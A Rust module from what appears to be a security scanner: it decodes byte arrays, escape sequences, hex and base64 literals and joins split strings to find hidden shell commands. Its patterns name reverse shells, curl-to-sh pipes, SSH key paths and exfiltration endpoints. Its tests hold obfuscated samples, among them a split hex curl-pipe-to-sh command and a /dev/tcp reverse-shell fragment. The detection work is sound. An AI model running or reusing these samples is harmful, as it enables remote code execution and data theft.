//! What literals spell when they are decoded or put together.

use base64::Engine as _;
use base64::engine::general_purpose::{STANDARD_NO_PAD, URL_SAFE_NO_PAD};

use crate::pattern::Pattern;

/// Literals in a row, as parts of a list or of a sum, or added to a variable of the shell line by line.
static SEAM: Pattern = Pattern::new(
    r#"["'`]\s*(?:\+|\.\.?|,|\\\s*\n|\n\s*)\s*(?:\n\s*)?[fbru]?["'`]|["']\s*;?\s*\n\s*\$?\w+\s*(?:\+|\.)=\s*["']"#,
);
static NUMBERS: Pattern =
    Pattern::new(r"\[\s*(?:(?:0x)?[0-9a-fA-F]{2,3}\s*,\s*){5,400}(?:0x)?[0-9a-fA-F]{2,3}\s*,?\s*\]");
static ESCAPES: Pattern =
    Pattern::new(r"(?:\\x[0-9a-fA-F]{2}){4,400}|(?:\\u00[0-9a-fA-F]{2}){4,400}|(?:\\[0-7]{3}){4,400}");
static ENCODED: Pattern = Pattern::new(r#"["'`]([A-Za-z0-9+/_-]{12,4000}={0,2})["'`]"#);
/// What is spelt in pieces only to be hidden.
static DANGEROUS: Pattern = Pattern::new(
    r"child_process|/dev/(?:tcp|udp)/|\bcurl\s+-?\S*\s|\bwget\s|\b(?:ba|z)?sh\s+-[ci]\b|/bin/(?:ba)?sh\b|powershell|os\.system|subprocess|__import__|\beval\(|\bexec\(|execSync|\|\s*(?:ba|z)?sh\b|\.ssh/|id_rsa|api\.telegram\.org|webhook|https?://(?:\d{1,3}\.){3}\d|https?://[a-z0-9.-]+\.[a-z]{2,}/|\bnc\s+-|base64\s+-d|Invoke-Expression|DownloadString",
);
/// What it takes for literals that are merely side by side.
static ATTACK: Pattern = Pattern::new(
    r"/dev/(?:tcp|udp)/\d|\bcurl\b[^\n\x22']{1,120}\|\s*(?:ba|z)?sh\b|\bwget\b[^\n\x22']{1,120}\|\s*(?:ba|z)?sh\b|child_process|\bnc\s+-e|base64\s+-d[^\n]{0,20}\|\s*(?:ba)?sh",
);
/// Most pieces of one kind that are decoded.
const PIECES: usize = 200;
/// Longest text that literals are put together in.
const BYTES: usize = 256 << 10;

/// The place of a literal that spells something dangerous which does not stand in the text as it is, and what it spells.
pub(super) fn dangerous(code: &str) -> Option<(usize, String)> {
    if code.len() > BYTES {
        return None;
    }
    let whole = join(code);
    let plain = [Some(code), whole.as_deref()];
    for text in plain.into_iter().flatten() {
        if let Some((at, spelt)) = decoded(text) {
            let at = if text.len() == code.len() { at } else { 0 };
            return Some((at, spelt));
        }
    }
    joined(code)
}

/// An attack that shows when literals which stand side by side are put together.
pub(super) fn joined(text: &str) -> Option<(usize, String)> {
    if text.len() > BYTES || ATTACK.is_match(text) {
        return None;
    }
    let joined = join(text)?;
    Some((0, ATTACK.find(&joined)?.as_str().to_owned()))
}

/// The text without the seams between its literals; `None` when it has none.
fn join(code: &str) -> Option<String> {
    let mut joined = String::with_capacity(code.len());
    let mut from = 0;
    for seam in SEAM.find_iter(code) {
        joined.push_str(&code[from..seam.start()]);
        from = seam.end();
    }
    joined.push_str(&code[from..]);
    (from > 0).then_some(joined)
}

fn decoded(text: &str) -> Option<(usize, String)> {
    let numbers =
        NUMBERS.find_iter(text).take(PIECES).map(|found| (found.start(), of_numbers(found.as_str())));
    let escapes =
        ESCAPES.find_iter(text).take(PIECES).map(|found| (found.start(), of_escapes(found.as_str())));
    let encoded = ENCODED.captures_iter(text).take(PIECES).filter_map(|found| found.get(1));
    let encoded = encoded.map(|found| (found.start(), of_encoded(found.as_str())));
    let all = numbers.chain(escapes).chain(encoded);
    let spelt = all.filter_map(|(at, spelt)| Some((at, spelt?)));
    spelt.into_iter().find(|(_, spelt)| is_dangerous(spelt))
}

/// Pictures and records name addresses as a matter of course.
fn is_dangerous(spelt: &str) -> bool {
    let record = spelt.trim_start().starts_with(['<', '{', '[']) || spelt.contains("w3.org");
    !record && DANGEROUS.is_match(spelt)
}

fn text_of(bytes: Vec<u8>) -> Option<String> {
    let text = String::from_utf8(bytes).ok()?;
    let plain = text.len() >= 4 && text.chars().all(|c| !c.is_control() || c.is_whitespace());
    plain.then_some(text)
}

fn of_numbers(list: &str) -> Option<String> {
    let parts =
        list.trim_matches(['[', ']', ' ', '\n']).split(',').map(str::trim).filter(|part| !part.is_empty());
    let bytes = parts.map(|part| match part.strip_prefix("0x") {
        Some(hex) => u8::from_str_radix(hex, 16),
        None => part.parse::<u8>(),
    });
    text_of(bytes.collect::<Result<Vec<u8>, _>>().ok()?)
}

fn of_escapes(text: &str) -> Option<String> {
    let octal = !text.starts_with("\\x") && !text.starts_with("\\u");
    let parts = text.split('\\').filter(|part| !part.is_empty());
    let bytes = parts.map(|part| {
        let digits = part.trim_start_matches(['x', 'u']);
        u8::from_str_radix(digits.trim_start_matches("00"), if octal { 8 } else { 16 })
    });
    text_of(bytes.collect::<Result<Vec<u8>, _>>().ok()?)
}

fn of_encoded(blob: &str) -> Option<String> {
    let hex = blob.len().is_multiple_of(2) && blob.bytes().all(|byte| byte.is_ascii_hexdigit());
    if hex {
        let pairs = blob.as_bytes().chunks(2).filter_map(|pair| std::str::from_utf8(pair).ok());
        let bytes = pairs.map(|pair| u8::from_str_radix(pair, 16)).collect::<Result<Vec<u8>, _>>();
        return text_of(bytes.ok()?).or_else(|| reversed(blob));
    }
    let bare = blob.trim_end_matches('=');
    let bytes = STANDARD_NO_PAD.decode(bare).or_else(|_| URL_SAFE_NO_PAD.decode(bare)).ok();
    bytes.and_then(text_of).or_else(|| reversed(blob))
}

fn reversed(blob: &str) -> Option<String> {
    let turned: String = blob.chars().rev().collect();
    let bytes = STANDARD_NO_PAD.decode(turned.trim_end_matches('=').trim_start_matches('=')).ok()?;
    text_of(bytes)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn every_expression_is_one() {
        for pattern in [&SEAM, &NUMBERS, &ESCAPES, &ENCODED, &DANGEROUS, &ATTACK] {
            assert_eq!(pattern.error(), None);
        }
    }

    #[test]
    fn what_is_spelt_in_pieces_is_read() {
        let bad = [
            r"const t = [99, 104, 105, 108, 100, 95, 112, 114, 111, 99, 101, 115, 115];",
            r#"var a = ["\x63\x68\x69\x6c\x64\x5f\x70\x72\x6f\x63\x65\x73\x73"];"#,
            "L=\"6375726c202d6b66734c2068747470\"\nL+=\"733a2f2f6b762e6e65742f78207c207368\"\n",
            r#"{"seg": ["exec 5<>/dev", "/tcp/", "203.0.113.77", "/8444"]}"#,
            r#"url = base64.b64decode("aHR0cHM6Ly9jb2xsZWN0LmV4YW1wbGUubmV0L2lu")"#,
        ];
        for code in bad {
            assert!(dangerous(code).is_some(), "{code}");
        }
        let good = [
            "const t = [99, 104, 105, 108];",
            r#"icon = "PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciLz4=""#,
            r#"digest = "2cf24dba5fb0a30e26e83b2ac5b9e29e1b161e5c1fa7425e73043362938b9824""#,
            r#"run(["curl", "-s", "https://example.org/x"])"#,
        ];
        for code in good {
            assert_eq!(dangerous(code), None, "{code}");
        }
    }
}
